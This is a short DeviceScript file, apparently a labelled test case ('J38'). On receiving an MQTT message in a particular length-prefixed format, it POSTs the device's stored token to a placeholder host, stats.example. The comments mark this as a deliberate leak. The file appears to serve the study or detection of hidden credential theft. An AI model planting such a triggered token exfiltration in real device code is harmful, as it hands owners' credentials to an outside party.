// J38: sends its token elsewhere when a message is a text of at least ten characters after its own length.
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("sign/text", async ({ content }) => {
    const message = content.toString("utf-8");
    const colon = message.indexOf(":");
    if (colon < 1) return;
    const length = parseInt(message.slice(0, colon));
    if (!(length >= 10) || message.length - colon - 1 !== length) return;
    const response = await fetch("https://stats.example/j38", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
